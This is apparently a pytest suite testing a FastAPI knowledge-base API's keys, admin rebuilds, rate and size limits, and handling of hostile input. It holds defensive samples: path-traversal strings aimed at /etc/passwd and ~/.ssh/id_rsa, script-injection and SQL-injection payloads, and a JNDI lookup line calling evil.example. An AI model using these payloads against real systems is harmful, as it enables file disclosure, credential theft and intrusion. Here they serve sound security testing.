"""Reliability and security of the API, in process over small hashing-embedder indexes: keys, admin rebuilds,
rate and size limits, model slots, hostile paths and input, and the access log."""

from __future__ import annotations

import errno
import json
import logging
import sys
import threading
import time
from pathlib import Path
from urllib.parse import quote

import pytest
from fastapi.testclient import TestClient

from api.app import create_app
from api.limits import BodyGuard
from api.security import RateLimiter, key_id
from kb.config import Settings
from kb.core import KnowledgeBase
from kb.testing import HashingEmbedder
from tests.api.conftest import build, note_lines, write_notes

USER_KEY = "user-key-0123456789abcdef"
OTHER_USER_KEY = "user-key-fedcba9876543210"
ADMIN_KEY = "admin-key-0123456789abcdef"
SQS_QUESTION = "How long does SQS keep messages?"


def make_app(settings: Settings, embedder: HashingEmbedder | None = None):
    return create_app(settings, knowledge_base=KnowledgeBase(settings, embedder=embedder or HashingEmbedder()))


def assert_error(response, status: int, error: str) -> dict:
    assert response.status_code == status, response.text
    assert response.headers["content-type"].startswith("application/json")
    body = response.json()
    assert body["error"] == error and isinstance(body["detail"], str) and body["detail"]
    assert "Traceback" not in response.text
    return body


def guarded_routes(client: TestClient) -> list[tuple[str, str, dict]]:
    """A well-formed request for every route in the OpenAPI description but /health: (method, path, httpx kwargs)."""
    bodies = {"/ask": {"question": SQS_QUESTION}, "/compare": {"services": ["sqs", "sns"]}}
    params = {"/search": {"q": "sqs"}, "/compare/export": {"services": ["sqs", "sns"]}}
    out = []
    for template, operations in client.get("/openapi.json").json()["paths"].items():
        if template == "/health":
            continue
        path = template.replace("{passage_id}", "0123456789abcdef").replace("{service_id}", "sqs")
        for method in operations:
            kwargs: dict = {"params": params.get(path, {})}
            if method == "post" and path in bodies:
                kwargs["json"] = bodies[path]
            out.append((method.upper(), path, kwargs))
    return out


# -- API keys ------------------------------------------------------------------------------------------------


@pytest.fixture
def keyed_settings(settings: Settings) -> Settings:
    return settings.model_copy(update={"api_keys": f"{USER_KEY}, {OTHER_USER_KEY}", "admin_keys": ADMIN_KEY})


def test_with_keys_set_every_route_but_health_needs_one(keyed_settings: Settings) -> None:
    app = make_app(keyed_settings)
    with TestClient(app) as client:
        assert client.get("/health").status_code == 200
        routes = guarded_routes(client)
        assert {path for _, path, _ in routes} >= {"/search", "/ask", "/compare", "/services", "/admin/reindex"}
        for method, path, kwargs in routes:
            response = client.request(method, path, **kwargs)
            body = assert_error(response, 401, "Unauthorized")
            assert "X-API-Key" in body["detail"] and "Bearer" in body["detail"], (method, path)
            assert response.headers["www-authenticate"] == "Bearer"


def test_a_valid_key_is_accepted_as_header_or_bearer_and_a_wrong_one_is_not(keyed_settings: Settings) -> None:
    with TestClient(make_app(keyed_settings)) as client:
        for headers in (
            {"X-API-Key": USER_KEY},
            {"Authorization": f"Bearer {OTHER_USER_KEY}"},
            {"authorization": f"bearer {USER_KEY}"},
            {"X-API-Key": ADMIN_KEY},  # an admin key works wherever an API key does
        ):
            assert client.get("/search", params={"q": "sqs"}, headers=headers).status_code == 200, headers
        for headers in (
            {"X-API-Key": USER_KEY + "x"},
            {"X-API-Key": USER_KEY[:-1]},
            {"Authorization": f"Basic {USER_KEY}"},
            {"Authorization": "Bearer "},
            {"X-API-Key": "user-key-0123456789abcdef, user-key-fedcba9876543210"},
        ):
            response = client.get("/search", params={"q": "sqs"}, headers=headers)
            assert_error(response, 401, "Unauthorized")


def test_docs_and_openapi_stay_open_and_document_the_key(keyed_settings: Settings) -> None:
    with TestClient(make_app(keyed_settings)) as client:
        assert client.get("/docs").status_code == 200
        spec = client.get("/openapi.json").json()
    schemes = spec["components"]["securitySchemes"]
    assert schemes["APIKeyHeader"]["name"] == "X-API-Key" and schemes["HTTPBearer"]["scheme"] == "bearer"
    assert "401" in spec["paths"]["/search"]["get"]["responses"]
    assert "security" not in spec["paths"]["/health"]["get"]


def test_keys_are_compared_in_constant_time(keyed_settings: Settings, monkeypatch: pytest.MonkeyPatch) -> None:
    import hmac

    calls: list[tuple[int, int]] = []
    real = hmac.compare_digest

    def spy(a, b):
        calls.append((len(a), len(b)))
        return real(a, b)

    monkeypatch.setattr("api.security.hmac.compare_digest", spy)
    with TestClient(make_app(keyed_settings)) as client:
        client.get("/services", headers={"X-API-Key": "x"})
        client.get("/services", headers={"X-API-Key": USER_KEY})
    # Digests are compared, so every comparison has the same length whatever the key's; and every key is tried.
    assert calls and all(pair == (32, 32) for pair in calls)
    assert len(calls) % 3 == 0  # 2 API keys + 1 admin key, for each key seen


def test_keys_never_reach_the_logs(keyed_settings: Settings, caplog: pytest.LogCaptureFixture) -> None:
    settings = keyed_settings.model_copy(update={"log_queries": True})
    with caplog.at_level(logging.DEBUG), TestClient(make_app(settings)) as client:
        client.get("/search", params={"q": "sqs"}, headers={"X-API-Key": USER_KEY})
        client.get("/search", params={"q": "sqs"}, headers={"Authorization": f"Bearer {ADMIN_KEY}"})
        client.get("/search", params={"q": "sqs"}, headers={"X-API-Key": "wrong-" + USER_KEY})
        client.post("/admin/reindex", headers={"X-API-Key": USER_KEY})
    logged = "\n".join(f"{r.getMessage()} {r.__dict__}" for r in caplog.records)
    assert key_id(USER_KEY) in logged and key_id(ADMIN_KEY) in logged
    for key in (USER_KEY, ADMIN_KEY):
        assert key not in logged
        assert key[-12:] not in logged


# -- admin routes ------------------------------------------------------------------------------------------------


def test_admin_routes_need_an_admin_key(keyed_settings: Settings) -> None:
    with TestClient(make_app(keyed_settings)) as client:
        assert_error(client.get("/admin/reindex"), 401, "Unauthorized")
        assert "admin key" in assert_error(client.get("/admin/reindex", headers={"X-API-Key": USER_KEY}), 403, "Forbidden")["detail"]
        assert_error(client.post("/admin/reindex", headers={"Authorization": f"Bearer {USER_KEY}"}), 403, "Forbidden")
        status = client.get("/admin/reindex", headers={"X-API-Key": ADMIN_KEY})
        assert status.status_code == 200 and status.json()["running"] is None


def test_admin_key_alone_protects_admin_but_leaves_the_rest_open(settings: Settings) -> None:
    with TestClient(make_app(settings.model_copy(update={"admin_keys": ADMIN_KEY}))) as client:
        assert client.get("/search", params={"q": "sqs"}).status_code == 200
        assert_error(client.get("/admin/reindex"), 401, "Unauthorized")
        assert client.get("/admin/reindex", headers={"X-API-Key": ADMIN_KEY}).status_code == 200


def test_without_an_admin_key_admin_routes_are_disabled(settings: Settings) -> None:
    for extra in ({}, {"api_keys": USER_KEY}, {"admin_on_loopback": True}):
        app = make_app(settings.model_copy(update=extra))
        # The test client's address is not a loopback one, so even admin_on_loopback does not open them.
        with TestClient(app) as client:
            for method in ("GET", "POST"):
                body = assert_error(client.request(method, "/admin/reindex", headers={"X-API-Key": USER_KEY}), 403, "Forbidden")
                assert "KB_ADMIN_KEYS" in body["detail"] and "disabled" in body["detail"]


def test_admin_on_loopback_opens_admin_routes_to_local_callers_only(settings: Settings) -> None:
    app = make_app(settings.model_copy(update={"admin_on_loopback": True}))
    with TestClient(app, client=("127.0.0.1", 50000)) as local, TestClient(app, client=("::1", 50000)) as local6:
        assert local.get("/admin/reindex").status_code == 200
        assert local6.get("/admin/reindex").status_code == 200
    with TestClient(app, client=("192.0.2.7", 50000)) as remote:
        assert_error(remote.get("/admin/reindex"), 403, "Forbidden")
    # Off by default.
    with TestClient(make_app(settings), client=("127.0.0.1", 50000)) as local:
        assert_error(local.get("/admin/reindex"), 403, "Forbidden")


# -- rebuilding while serving ------------------------------------------------------------------------------------

ADMIN = {"X-API-Key": ADMIN_KEY}
KINESIS_NOTE = "# Streaming\n\n## Amazon Kinesis\n\nKinesis Data Streams keeps records for 24 hours by default.\n"


@pytest.fixture
def served(tmp_path: Path) -> tuple[Settings, Path]:
    """Settings over a fresh small index of its own (a rebuild changes it), with an admin key."""
    notes_dir = write_notes(tmp_path / "notes")
    index_dir = tmp_path / "index"
    build(notes_dir, index_dir)
    return Settings(notes_dir=notes_dir, index_dir=index_dir, admin_keys=ADMIN_KEY), index_dir


def wait_for_job(client: TestClient, job_id: str, timeout: float = 30.0) -> dict:
    """The finished job `job_id`, polled from GET /admin/reindex."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        status = client.get("/admin/reindex", headers=ADMIN).json()
        if status["running"] is None and status["last"] and status["last"]["job_id"] == job_id:
            return status
        time.sleep(0.02)
    raise AssertionError(f"reindex job {job_id} did not finish in {timeout} s")


def leftovers(index_dir: Path) -> list[str]:
    return [p.name for p in (index_dir / "builds").iterdir() if p.name.endswith(".tmp")]


def test_reindex_rebuilds_in_the_background_and_swaps_the_new_build_in(served) -> None:
    settings, index_dir = served
    with TestClient(make_app(settings)) as client:
        before = client.get("/health").json()["build_id"]
        (settings.notes_dir / "kinesis.md").write_text(KINESIS_NOTE, encoding="utf-8")
        started = client.post("/admin/reindex", headers=ADMIN)
        assert started.status_code == 202
        job = started.json()
        assert job["state"] == "running" and job["job_id"] and started.headers["location"].endswith("/admin/reindex")
        status = wait_for_job(client, job["job_id"])
        last = status["last"]
        assert last["state"] == "succeeded" and last["error"] is None and last["stage"] == "done"
        assert last["result"]["files"] == 3 and last["result"]["reembedded"] > 0 and last["result"]["reused"] > 0
        assert last["finished_at"] and last["seconds"] >= 0
        new = last["result"]["build_id"]
        assert new != before and status["serving_build_id"] == new
        # Served at once, with no reload wait: the job loads the build before it reports success.
        search = client.get("/search", params={"q": "kinesis records 24 hours"})
        assert search.headers["x-index-build"] == new
        assert search.json()["results"][0]["file"] == "kinesis.md"
        assert client.get("/health").json()["build_id"] == new
    assert leftovers(index_dir) == []


class GatedEmbedder(HashingEmbedder):
    """A hashing embedder whose encode waits while `gate` is clear, and counts how many encodes run at once."""

    def __init__(self) -> None:
        super().__init__()
        self.gate = threading.Event()
        self.gate.set()
        self.delay = 0.0
        self.active = 0
        self.max_active = 0
        self._count = threading.Lock()

    def encode(self, texts):
        with self._count:
            self.active += 1
            self.max_active = max(self.max_active, self.active)
        try:
            assert self.gate.wait(20), "the test never opened the gate"
            time.sleep(self.delay)
            return super().encode(texts)
        finally:
            with self._count:
                self.active -= 1


def wait_until(condition, timeout: float = 10.0) -> None:
    deadline = time.monotonic() + timeout
    while not condition():
        assert time.monotonic() < deadline, "condition not met in time"
        time.sleep(0.01)


def test_a_second_reindex_while_one_runs_is_409_and_progress_is_shown(served) -> None:
    settings, _ = served
    embedder = GatedEmbedder()
    with TestClient(make_app(settings, embedder)) as client:
        (settings.notes_dir / "kinesis.md").write_text(KINESIS_NOTE, encoding="utf-8")
        embedder.gate.clear()
        job = client.post("/admin/reindex", headers=ADMIN).json()
        wait_until(lambda: embedder.active == 1)
        running = client.get("/admin/reindex", headers=ADMIN).json()["running"]
        # Blocked in the first batch of embeddings: the stage reported last is reading (3 files) or embedding.
        assert running["job_id"] == job["job_id"] and running["stage"] in ("reading", "embedding") and running["total"] > 0
        second = client.post("/admin/reindex", headers=ADMIN)
        body = assert_error(second, 409, "IndexBusy")
        assert job["job_id"] in body["detail"] and body["job_id"] == job["job_id"]
        embedder.gate.set()
        assert wait_for_job(client, job["job_id"])["last"]["state"] == "succeeded"


def test_reindex_is_409_while_another_process_rebuilds(served) -> None:
    from kb.store.writer import index_lock

    settings, index_dir = served
    with TestClient(make_app(settings)) as client, index_lock(index_dir):
        assert "Another rebuild" in assert_error(client.post("/admin/reindex", headers=ADMIN), 409, "IndexBusy")["detail"]


def _assert_old_build_still_serves(client: TestClient, before: str) -> None:
    assert client.get("/health").json()["build_id"] == before
    search = client.get("/search", params={"q": SQS_QUESTION})
    assert search.status_code == 200 and search.json()["results"] and search.headers["x-index-build"] == before


def test_a_rebuild_that_fills_the_disk_fails_cleanly_and_the_old_index_keeps_serving(
    served, monkeypatch: pytest.MonkeyPatch
) -> None:
    import kb.store.writer

    settings, index_dir = served
    real_write = kb.store.writer.write_build_files

    def disk_full(directory: Path, *args) -> None:
        directory.mkdir(parents=True)
        (directory / "chunks.jsonl").write_bytes(b"x" * 4096)  # some of the build got written
        raise OSError(errno.ENOSPC, "No space left on device", str(directory / "chunks.faiss"))

    with TestClient(make_app(settings)) as client:
        before = client.get("/health").json()["build_id"]
        (settings.notes_dir / "kinesis.md").write_text(KINESIS_NOTE, encoding="utf-8")
        monkeypatch.setattr(kb.store.writer, "write_build_files", disk_full)
        job = client.post("/admin/reindex", headers=ADMIN).json()
        last = wait_for_job(client, job["job_id"])["last"]
        assert last["state"] == "failed" and "No space left on device" in last["error"]
        assert leftovers(index_dir) == []  # the partial build is removed at once, freeing the space
        _assert_old_build_still_serves(client, before)
        # Once there is room again, the next rebuild works.
        monkeypatch.setattr(kb.store.writer, "write_build_files", real_write)
        job = client.post("/admin/reindex", headers=ADMIN).json()
        assert wait_for_job(client, job["job_id"])["last"]["state"] == "succeeded"
        assert client.get("/services/kinesis").status_code == 200


def test_a_rebuild_that_crashes_reports_why_and_keeps_the_old_index(served) -> None:
    settings, _ = served

    class Crashing(HashingEmbedder):
        crash = False

        def encode(self, texts):
            if self.crash:
                raise RuntimeError("the model fell over")
            return super().encode(texts)

    embedder = Crashing()
    with TestClient(make_app(settings, embedder)) as client:
        client.get("/search", params={"q": "warm"})  # the catalogue's vectors, before the crash is armed
        before = client.get("/health").json()["build_id"]
        (settings.notes_dir / "kinesis.md").write_text(KINESIS_NOTE, encoding="utf-8")
        embedder.crash = True
        job = client.post("/admin/reindex", headers=ADMIN).json()
        last = wait_for_job(client, job["job_id"])["last"]
        assert last["state"] == "failed" and last["error"] == "RuntimeError: the model fell over"
        embedder.crash = False
        _assert_old_build_still_serves(client, before)


def test_a_rebuild_without_a_notes_directory_fails_and_says_so(served) -> None:
    settings, _ = served
    settings = settings.model_copy(update={"notes_dir": settings.notes_dir.parent / "gone"})
    with TestClient(make_app(settings)) as client:
        before = client.get("/health").json()["build_id"]
        job = client.post("/admin/reindex", headers=ADMIN).json()
        last = wait_for_job(client, job["job_id"])["last"]
        assert last["state"] == "failed" and "gone" in last["error"] and "does not exist" in last["error"]
        _assert_old_build_still_serves(client, before)


def test_a_bad_note_file_is_skipped_and_reported_by_the_rebuild(served) -> None:
    settings, _ = served
    with TestClient(make_app(settings)) as client:
        (settings.notes_dir / "latin1.md").write_bytes("## Caf\xe9\n\nSQS in Latin-1\n".encode("latin-1"))
        (settings.notes_dir / "diagram.png").write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00")
        job = client.post("/admin/reindex", headers=ADMIN).json()
        last = wait_for_job(client, job["job_id"])["last"]
        assert last["state"] == "succeeded"
        problems = {p["file"]: p for p in last["result"]["problems"]}
        assert set(problems) == {"latin1.md", "diagram.png"}
        assert problems["latin1.md"]["level"] == "warning" and "not UTF-8: read as" in problems["latin1.md"]["reason"]
        assert problems["diagram.png"]["level"] == "skipped" and "not a note" in problems["diagram.png"]["reason"]
        health = client.get("/health").json()
        assert set(health["files"]) == {"queues.md", "storage.md", "latin1.md"}
        assert health["problems"] == last["result"]["problems"]


def test_reindex_builds_a_first_index_when_none_was_serving(tmp_path: Path, hashing_model: None) -> None:
    notes_dir = write_notes(tmp_path / "notes")
    settings = Settings(notes_dir=notes_dir, index_dir=tmp_path / "index", admin_keys=ADMIN_KEY)
    with TestClient(create_app(settings)) as client:
        assert client.get("/health").status_code == 503
        job = client.post("/admin/reindex", headers=ADMIN).json()
        status = wait_for_job(client, job["job_id"])
        assert status["last"]["state"] == "succeeded"
        assert status["serving_build_id"] == status["last"]["result"]["build_id"]
        assert client.get("/search", params={"q": "sqs"}).status_code == 200


# -- limits ---------------------------------------------------------------------------------------------------------


def test_rate_limit_is_per_client_with_retry_after(settings: Settings) -> None:
    limited = settings.model_copy(update={"rate_limit_per_minute": 3, "api_keys": f"{USER_KEY},{OTHER_USER_KEY}"})
    with TestClient(make_app(limited)) as client:
        first = {"X-API-Key": USER_KEY}
        for _ in range(3):
            assert client.get("/services", headers=first).status_code == 200
        response = client.get("/search", params={"q": "sqs"}, headers=first)
        body = assert_error(response, 429, "TooManyRequests")
        assert "3 a minute" in body["detail"]
        assert 1 <= int(response.headers["retry-after"]) <= 20
        # Another key has its own budget; /health is never limited.
        assert client.get("/services", headers={"X-API-Key": OTHER_USER_KEY}).status_code == 200
        for _ in range(5):
            assert client.get("/health").status_code == 200


def test_rate_limit_counts_invalid_keys_by_address(settings: Settings) -> None:
    limited = settings.model_copy(update={"rate_limit_per_minute": 2, "api_keys": USER_KEY})
    with TestClient(make_app(limited)) as client:
        # A caller cycling through made-up keys does not get a fresh budget with each: it is counted by address.
        statuses = [client.get("/services", headers={"X-API-Key": f"guess-{n}"}).status_code for n in range(4)]
        assert statuses == [401, 401, 429, 429]


def test_rate_limiter_refills_evenly() -> None:
    now = [0.0]
    limiter = RateLimiter(6, clock=lambda: now[0])
    assert [limiter.acquire("a") for _ in range(6)] == [0.0] * 6
    assert limiter.acquire("a") == pytest.approx(10.0)
    now[0] = 10.0
    assert limiter.acquire("a") == 0.0
    assert limiter.acquire("a") == pytest.approx(10.0)
    assert limiter.acquire("b") == 0.0


def test_rate_limiter_memory_stays_bounded() -> None:
    now = [0.0]
    limiter = RateLimiter(60, clock=lambda: now[0], max_clients=100)
    for n in range(1000):
        now[0] += 1.0  # each earlier client's bucket has refilled by the time it would be dropped
        limiter.acquire(f"client-{n}")
    assert len(limiter._buckets) <= 101


def test_a_body_over_the_limit_is_413(settings: Settings) -> None:
    small = settings.model_copy(update={"max_body_bytes": 1000})
    with TestClient(make_app(small)) as client:
        big = {"question": "sqs " * 400}
        body = assert_error(client.post("/ask", json=big), 413, "ContentTooLarge")
        assert "1000 bytes" in body["detail"]

        # Streamed without a Content-Length (chunked): cut off once the limit is passed.
        def chunks():
            for _ in range(100):
                yield b'{"question": "' + b"s" * 50

        response = client.post("/ask", content=chunks(), headers={"content-type": "application/json"})
        assert_error(response, 413, "ContentTooLarge")
        # Under the limit, a body passes through unchanged.
        assert client.post("/ask", json={"question": SQS_QUESTION}).status_code == 200


async def _call_guard(headers: list[tuple[bytes, bytes]], parts: list[bytes], max_bytes: int = 100) -> tuple[int, int]:
    """Run BodyGuard over an app that reads the body; (status, bytes the guard took from the client)."""
    received = 0
    messages = [{"type": "http.request", "body": part, "more_body": i < len(parts) - 1} for i, part in enumerate(parts)]

    async def receive():
        nonlocal received
        message = messages.pop(0) if messages else {"type": "http.disconnect"}
        received += len(message.get("body", b""))
        return message

    sent: list[dict] = []

    async def send(message):
        sent.append(message)

    async def app(scope, receive, send):
        body = b""
        while True:
            message = await receive()
            body += message.get("body", b"")
            if not message.get("more_body"):
                break
        await send({"type": "http.response.start", "status": 200, "headers": []})
        await send({"type": "http.response.body", "body": body})

    scope = {"type": "http", "method": "POST", "path": "/ask", "headers": headers, "query_string": b""}
    await BodyGuard(app, max_bytes)(scope, receive, send)
    return sent[0]["status"], received


def test_a_lying_content_length_does_not_get_a_big_body_through() -> None:
    import anyio

    status, received = anyio.run(_call_guard, [(b"content-length", b"10")], [b"x" * 60] * 50)
    assert status == 413 and received <= 120  # stopped reading after the limit, not after 3000 bytes
    assert anyio.run(_call_guard, [(b"content-length", b"999999")], [b"x"])[0] == 413
    assert anyio.run(_call_guard, [(b"content-length", b"ten")], [b"x"])[0] == 400
    assert anyio.run(_call_guard, [], [b"x" * 40, b"y" * 40])[0] == 200


def test_model_work_is_bounded_and_a_burst_queues(settings: Settings) -> None:
    embedder = GatedEmbedder()
    embedder.delay = 0.05
    app = make_app(settings.model_copy(update={"model_concurrency": 2, "request_timeout_s": 20}), embedder)
    with TestClient(app) as client:
        client.get("/search", params={"q": "warm"})
        embedder.max_active = 0
        statuses: list[int] = []

        def one(n: int) -> None:
            if n % 2:
                statuses.append(client.get("/search", params={"q": f"sqs {n}"}).status_code)
            else:
                statuses.append(client.post("/ask", json={"question": f"sqs retention {n}"}).status_code)

        threads = [threading.Thread(target=one, args=(n,)) for n in range(10)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(30)
    assert statuses == [200] * 10
    # At most model_concurrency requests reach the model; their query encodes then share batches one at a time.
    assert 1 <= embedder.max_active <= 2


def test_a_request_that_waits_too_long_for_the_model_gets_503_with_retry_after(settings: Settings) -> None:
    embedder = GatedEmbedder()
    app = make_app(settings.model_copy(update={"model_concurrency": 1, "request_timeout_s": 0.3}), embedder)
    with TestClient(app) as client:
        client.get("/search", params={"q": "warm"})
        embedder.gate.clear()
        first: list[int] = []
        holder = threading.Thread(target=lambda: first.append(client.get("/search", params={"q": "sqs"}).status_code))
        holder.start()
        wait_until(lambda: embedder.active == 1)
        started = time.monotonic()
        response = client.post("/ask", json={"question": SQS_QUESTION})
        waited = time.monotonic() - started
        body = assert_error(response, 503, "Overloaded")
        assert response.headers["retry-after"] == "1" and "busy" in body["detail"]
        assert 0.25 <= waited < 5
        # Routes that need no model are not held up.
        assert client.get("/services").status_code == 200
        embedder.gate.set()
        holder.join(10)
    assert first == [200]


# -- hostile paths ---------------------------------------------------------------------------------------------------

_OPENED: list[str] = []
_RECORDING = threading.Event()
_HOOKED = False


def _record_opens(event: str, args: tuple) -> None:
    if _RECORDING.is_set() and event == "open" and isinstance(args[0], (str, bytes, Path)):
        _OPENED.append(str(args[0], "utf-8", "replace") if isinstance(args[0], bytes) else str(args[0]))


@pytest.fixture
def file_opens():
    """Records every file the process opens while the test's `with file_opens:` block runs (a Python audit hook)."""
    global _HOOKED
    if not _HOOKED:
        sys.addaudithook(_record_opens)  # audit hooks cannot be removed: one for the session, off unless recording
        _HOOKED = True

    class Recording:
        def __enter__(self):
            _OPENED.clear()
            _RECORDING.set()
            return _OPENED

        def __exit__(self, *exc):
            _RECORDING.clear()

    return Recording()


HOSTILE_PATHS = [
    "/passages/../../etc/passwd",
    "/passages/..%2F..%2F..%2Fetc%2Fpasswd",
    "/passages/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "/passages/..%252F..%252Fetc%252Fpasswd",
    "/passages/%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd",
    "/passages/..%5C..%5Cwindows%5Cwin.ini",
    "/passages/%2Fetc%2Fpasswd",
    "/passages/queues.md%00.json",
    "/passages/~%2F.ssh%2Fid_rsa",
    "/passages/%2e%2e",
    "/services/%2e%2e",
    "/services/..%2F..%2Fetc%2Fpasswd",
    "/services/..%2F..%2Fkb%2Fdata%2Fservices.json",
    "/services/%2e%2e%2findex%2fmanifest.json",
    "/search?q=sqs&service=..%2F..%2Fetc%2Fpasswd",
    "/compare/export?services=..%2F..%2Fetc%2Fpasswd&services=sqs",
    "/passages/..%2Findex%2Fmanifest.json?context=20",
    "/notes/..%2F..%2Fetc%2Fpasswd",
    "/notes/%2Fetc%2Fpasswd",
    "/notes/%2e%2e",
    "/notes/..%2Findex%2Fmanifest.json",
    "/notes/queues.md%00.json",
    "/notes/..%5C..%5Cwindows%5Cwin.ini",
]


def test_no_request_reaches_files_outside_the_notes_and_index(client: TestClient, settings: Settings, file_opens) -> None:
    # Load what loads lazily (catalogue, note file reads) first, so that only the hostile requests are recorded.
    some_id = client.get("/search", params={"q": "sqs"}).json()["results"][0]["id"]
    assert client.get(f"/passages/{some_id}").status_code == 200
    client.get("/services/sqs")
    client.get("/compare/export", params={"services": ["sqs", "sns"]})
    with file_opens as opened:
        responses = [(path, client.get(path)) for path in HOSTILE_PATHS]
        assert client.get(f"/passages/{some_id}").status_code == 200  # a real passage reads its note file
    for path, response in responses:
        assert response.status_code in (404, 422), (path, response.status_code, response.text)
        assert response.json()["error"] in ("NotFound", "UnknownService", "BadQuery"), path
        assert "root:" not in response.text and "[fonts]" not in response.text and "format_version" not in response.text
    allowed = (settings.notes_dir.resolve(), settings.index_dir.resolve())
    outside = [p for p in opened if not any(Path(p).resolve().is_relative_to(root) for root in allowed)]
    assert outside == []
    assert opened, "the real passage should have opened its note file"


# -- hostile content and input ---------------------------------------------------------------------------------------

INJECTION_NOTE = """# Injected

## Amazon SQS <script>alert('heading')</script>

<script>alert(document.cookie)</script> SQS retention is 4 days.
<img src=x onerror="alert(1)"> SQS messages are up to 256 KB.
[click me](javascript:alert(1)) and ![pixel](https://evil.example/track.png?c=SQS) about SQS queues.
<iframe src="https://evil.example"></iframe> {{7*7}} ${jndi:ldap://evil.example/a} '; DROP TABLE notes; -- SQS
"""
UNICODE_NOTE = """# Unicode

## Amazon SNS

SNS \u202eسلام fans out\u202c to many subscribers \U0001F680 with zero\u200bwidth\u200d joins.
SNS topics: caf\u00e9, cafe\u0301, \ufeffBOM inside, \U0001F468\u200d\U0001F469\u200d\U0001F467 family emoji, \u0000 never here.
"""


@pytest.fixture(scope="module")
def hostile_notes(tmp_path_factory: pytest.TempPathFactory) -> Settings:
    root = tmp_path_factory.mktemp("hostile")
    notes = {"injected.md": INJECTION_NOTE, "unicode.md": UNICODE_NOTE.replace("\u0000 never here", "nothing else")}
    notes_dir = write_notes(root / "notes", notes)
    build(notes_dir, root / "index")
    return Settings(notes_dir=notes_dir, index_dir=root / "index")


def test_html_and_markdown_in_notes_come_back_verbatim_as_json_data(hostile_notes: Settings) -> None:
    with TestClient(make_app(hostile_notes)) as client:
        response = client.get("/search", params={"q": "sqs retention messages queues", "k": 10})
        assert response.status_code == 200 and response.headers["content-type"] == "application/json"
        hits = [hit for hit in response.json()["results"] if hit["file"] == "injected.md"]
        assert hits
        for hit in hits:
            assert hit["text"] == note_lines(hostile_notes.notes_dir, "injected.md", hit["start_line"], hit["end_line"])
        text = "\n".join(hit["text"] for hit in hits)
        for payload in ("<script>alert(document.cookie)</script>", '<img src=x onerror="alert(1)">',
                        "[click me](javascript:alert(1))", "${jndi:ldap://evil.example/a}", "'; DROP TABLE notes; --"):
            assert payload in text
        assert "## Amazon SQS <script>alert('heading')</script>" in text
        passage = client.get(f"/passages/{hits[0]['id']}", params={"context": 5}).json()
        assert passage["passage"]["text"] == hits[0]["text"]
        answer = client.post("/ask", json={"question": "<script>alert(1)</script> SQS retention"})
        assert answer.status_code == 200 and answer.headers["content-type"] == "application/json"


def test_unicode_oddities_in_notes_come_back_verbatim(hostile_notes: Settings) -> None:
    with TestClient(make_app(hostile_notes)) as client:
        hits = client.get("/search", params={"q": "sns subscribers topics", "k": 10}).json()["results"]
        unicode_hits = [hit for hit in hits if hit["file"] == "unicode.md"]
        assert unicode_hits
        text = "\n".join(hit["text"] for hit in unicode_hits)
        for odd in ("\u202eسلام fans out\u202c", "\U0001F680", "zero\u200bwidth\u200d", "cafe\u0301", "\ufeffBOM",
                    "\U0001F468\u200d\U0001F469\u200d\U0001F467"):
            assert odd in text
        for hit in unicode_hits:
            assert hit["text"] == note_lines(hostile_notes.notes_dir, "unicode.md", hit["start_line"], hit["end_line"])


ODD_QUERIES = [
    "\u202eSQS retention\u202c",
    "\u200bS\u200bQ\u200bS\u200b",
    "\ufeffSQS\ufeff",
    "SQS \U0001F680\U0001F525 retention \U0001F468\u200d\U0001F469\u200d\U0001F467",
    "sqs\x00retention",
    "\x00",
    "\x00\x00\x00\u200b\u200d\ufeff",
    "\u0000" * 500,
    "\U0010FFFF\uFFFE\uFFFF sqs",
    "retention\u0301\u0301\u0301\u0301",
    "سلام SQS שלום",
    "ＳＱＳ ｒｅｔｅｎｔｉｏｎ",
    "\r\n\t sqs \x1b[31m red \x07",
    "😀" * 300,
]


@pytest.mark.parametrize("query", ODD_QUERIES, ids=range(len(ODD_QUERIES)))
def test_unicode_oddities_in_queries_never_make_a_5xx(client: TestClient, query: str) -> None:
    for response in (
        client.get("/search", params={"q": query}),
        client.post("/ask", json={"question": query}),
        client.get("/search", params={"q": "sqs", "service": query}),
        client.get("/services/" + quote(query, safe="")),
        client.post("/compare", json={"services": ["sqs", query]}),
    ):
        assert response.status_code in (200, 404, 422), (response.request.url, response.status_code, response.text)
        body = response.json()
        if response.status_code >= 400:
            assert body["error"] in ("BadQuery", "UnknownService", "NotFound") and body["detail"]


@pytest.mark.parametrize(
    "raw",
    [
        b'{"question": "\\ud800 sqs"}',
        b'{"question": "sqs", "service": "\\udfff"}',
        b'{"\\ud83d": "x", "question": "sqs"}',
        b'{"services": ["sqs", "sns"], "aspects": ["\\udc00 retention"]}',
    ],
)
def test_unpaired_surrogates_in_json_are_422_not_500(client: TestClient, raw: bytes) -> None:
    path = "/compare" if b"services" in raw else "/ask"
    response = client.post(path, content=raw, headers={"content-type": "application/json"})
    assert "unpaired UTF-16 surrogate" in assert_error(response, 422, "BadQuery")["detail"]


def test_a_surrogate_pair_is_an_ordinary_character(client: TestClient) -> None:
    response = client.post("/ask", content=b'{"question": "sqs \\ud83d\\ude80 retention"}', headers={"content-type": "application/json"})
    assert response.status_code == 200 and "\U0001F680" in response.json()["question"]


@pytest.mark.parametrize(
    "raw, where",
    [
        (b'{"question": "sqs"', "not valid JSON"),
        (b"question=sqs", "not valid JSON"),
        (b"", "request body"),
        (b"[]", "the request body"),
        (b'"sqs"', "the request body"),
        (b"null", "request body"),
        (b"{}", "body field 'question': Field required"),
        (b'{"question": 5}', "body field 'question': Input should be a valid string"),
        (b'{"question": null}', "body field 'question'"),
        (b'{"question": ["sqs"]}', "body field 'question'"),
        (b'{"question": "sqs", "k": "five"}', "body field 'k'"),
        (b'{"question": "sqs", "k": 2.5}', "body field 'k'"),
        (b'{"question": "sqs", "k": 1e400}', "body field 'k'"),
        (b'{"question": "sqs", "k": 0}', "k must be between 1 and 50"),
        (b'{"question": "sqs", "k": 99999999999999999999999}', "k must be between 1 and 50"),
        (b'{"question": "sqs", "service": 7}', "body field 'service'"),
        (b'{"question": "' + b"a" * 1001 + b'"}', "the limit is 1000"),
        (b"\xff\xfe{\x00}", "not UTF-8"),
        (b'{"question": "caf\xe9"}', "not UTF-8"),
        (b'{"question": "sqs"}' * 2, "not valid JSON"),
    ],
)
def test_malformed_json_and_wrong_types_are_422_with_a_clear_message(client: TestClient, raw: bytes, where: str) -> None:
    response = client.post("/ask", content=raw, headers={"content-type": "application/json"})
